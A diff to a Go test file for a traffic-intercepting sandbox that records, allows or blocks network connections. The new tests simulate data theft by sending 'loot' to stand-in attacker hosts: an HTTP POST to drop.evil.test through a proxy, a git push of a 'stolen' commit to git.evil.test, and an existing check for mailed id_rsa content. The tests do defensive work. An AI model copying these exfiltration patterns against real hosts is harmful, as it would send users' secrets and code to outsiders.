@@ -2,6 +2,7 @@ package names
 
 import (
 	"bufio"
+	"context"
 	"crypto/sha256"
 	"crypto/tls"
 	"crypto/x509"
@@ -12,12 +13,16 @@ import (
 	"net"
 	"net/http"
 	"net/http/httptest"
+	"net/url"
+	"os/exec"
 	"slices"
 	"strings"
+	"sync"
 	"testing"
 	"time"
 
 	"github.com/bodycam-dev/bodycam"
+	"golang.org/x/sys/unix"
 )
 
 // trusting is a TLS client's configuration with the run's CA alone.
@@ -104,8 +109,19 @@ func TestIntercept(t *testing.T) {
 		}
 		e := b.wait("http", func(e *bodycam.Event) bool { return e.Type == bodycam.TypeHTTP })
 		want(t, e, "PUT https://web.test:"+port+"/up0?a=1;b=%zz "+proto+" status=201")
-		tr.CloseIdleConnections()
+		stop := make(chan bool)
+		go func() { // an HTTP/2 connection is not idle at once when an answer was read
+			for {
+				tr.CloseIdleConnections()
+				select {
+				case <-stop:
+					return
+				case <-time.After(20 * time.Millisecond):
+				}
+			}
+		}()
 		f := b.wait("flow", func(e *bodycam.Event) bool { return e.Type == bodycam.TypeFlow })
+		close(stop)
 		want(t, f, "upstream=127.0.0.1:"+port, "outcome=ok", "proto=tls")
 		if f.BytesWritten < uint64(3*len(body)) || f.Host != "web.test" {
 			t.Error(show(&f))
@@ -419,5 +435,102 @@ func TestStandInTakesMail(t *testing.T) {
 	x := b.content(func(c *Content) bool { return c.Proto == "smtp" })
 	if !strings.Contains(string(x.Request.Data), "Subject: loot\r\n\r\nid_rsa") || x.Host != "mail.evil.test" {
 		t.Errorf("%+v", x)
+	}
+}
+
+func TestInterceptHoldsHostsAgainstTheList(t *testing.T) {
+	port, roots := tlsServer(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { io.WriteString(w, "for "+r.Host) }))
+	b := newBench(t, func(o *Options) {
+		o.Mode, o.Allow, o.Intercept, o.Roots = Allow, []string{"web.test:" + port}, true, roots
+	})
+	tr := &http.Transport{DialContext: b.dialContext, TLSClientConfig: b.trusting(), ForceAttemptHTTP2: true}
+	for host, wanted := range map[string]int{"web.test": 200, "other.test": 403} {
+		req, err := http.NewRequest("GET", "https://web.test:"+port+"/", nil)
+		if err != nil {
+			t.Fatal(err)
+		}
+		req.Host = host
+		resp, err := (&http.Client{Transport: tr}).Do(req)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if got := readAll(t, resp.Body); resp.StatusCode != wanted || wanted != 200 && strings.Contains(got, "for ") {
+			t.Errorf("%s: %d %q", host, resp.StatusCode, got)
+		}
+	}
+	e := b.wait("refused", func(e *bodycam.Event) bool { return e.Type == bodycam.TypeHTTP && e.Errno == int32(unix.EACCES) })
+	if e.Host != "other.test" {
+		t.Error(show(&e))
+	}
+	want(t, e, "dns=web.test", "status=403")
+}
+
+// A client that knows a proxy only gets through it to the stand-in.
+func TestStandInIsAProxyToo(t *testing.T) {
+	b := newBench(t, func(o *Options) { o.Mode = Sink })
+	proxy, err := url.Parse("http://proxy.evil.test:3128")
+	if err != nil {
+		t.Fatal(err)
+	}
+	c := &http.Client{Transport: &http.Transport{DialContext: b.dialContext, TLSClientConfig: b.trusting(), Proxy: http.ProxyURL(proxy)}}
+	for _, to := range []string{"https://drop.evil.test/x", "http://drop.evil.test/y"} {
+		resp, err := c.Post(to, "text/plain", strings.NewReader("loot"))
+		if err != nil {
+			t.Fatal(err)
+		}
+		if got := readAll(t, resp.Body); got != "ok\n" {
+			t.Errorf("%s: %q", to, got)
+		}
+		x := b.content(func(c *Content) bool { return strings.HasSuffix(c.URL, to[len(to)-2:]) })
+		if string(x.Request.Data) != "loot" || !strings.Contains(x.URL, "drop.evil.test") {
+			t.Errorf("%+v", x)
+		}
+	}
+	e := b.wait("CONNECT", func(e *bodycam.Event) bool { return e.HostSource == bodycam.HostConnect })
+	if e.Host != "drop.evil.test" {
+		t.Error(show(&e))
+	}
+}
+
+// git pushes to the stand-in as if it were a server, and the pack is kept.
+func TestStandInTakesPushes(t *testing.T) {
+	git, err := exec.LookPath("git")
+	if err != nil {
+		t.Skip("git is needed")
+	}
+	for _, scheme := range []string{"http", "git"} {
+		n := newNetns(t)
+		var tr trace
+		var mu sync.Mutex
+		var kept []Content
+		p, err := New(Options{Mode: Sink, OriginalDst: kernelOriginalDst, Emit: tr.sink, Content: func(c *Content) {
+			mu.Lock()
+			defer mu.Unlock()
+			kept = append(kept, *c)
+		}})
+		if err != nil {
+			t.Fatal(err)
+		}
+		served := make(chan error, 1)
+		go func() { served <- p.Serve(context.Background(), n.tcp, n.udp, n.dns) }()
+		dir := t.TempDir()
+		for _, args := range [][]string{
+			{"init", "-q", dir}, {"-C", dir, "-c", "user.name=a", "-c", "user.email=a@b", "commit", "-q", "--allow-empty", "-m", "stolen"},
+			{"-C", dir, "push", "-q", scheme + "://git.evil.test/loot.git", "HEAD:refs/heads/main"},
+			{"clone", "-q", scheme + "://git.evil.test/loot.git", dir + "/clone"},
+		} {
+			if out, err := n.run("", git, args...); err != nil {
+				t.Errorf("git %v: %v: %s", args, err, out)
+			}
+		}
+		p.Close()
+		if err := <-served; err != nil {
+			t.Error(err)
+		}
+		if !slices.ContainsFunc(kept, func(c Content) bool {
+			return strings.Contains(string(c.Request.Data), "refs/heads/main") && strings.Contains(string(c.Request.Data), "PACK")
+		}) {
+			t.Errorf("%s: the pack was not kept in %d exchanges", scheme, len(kept))
+		}
 	}
 }
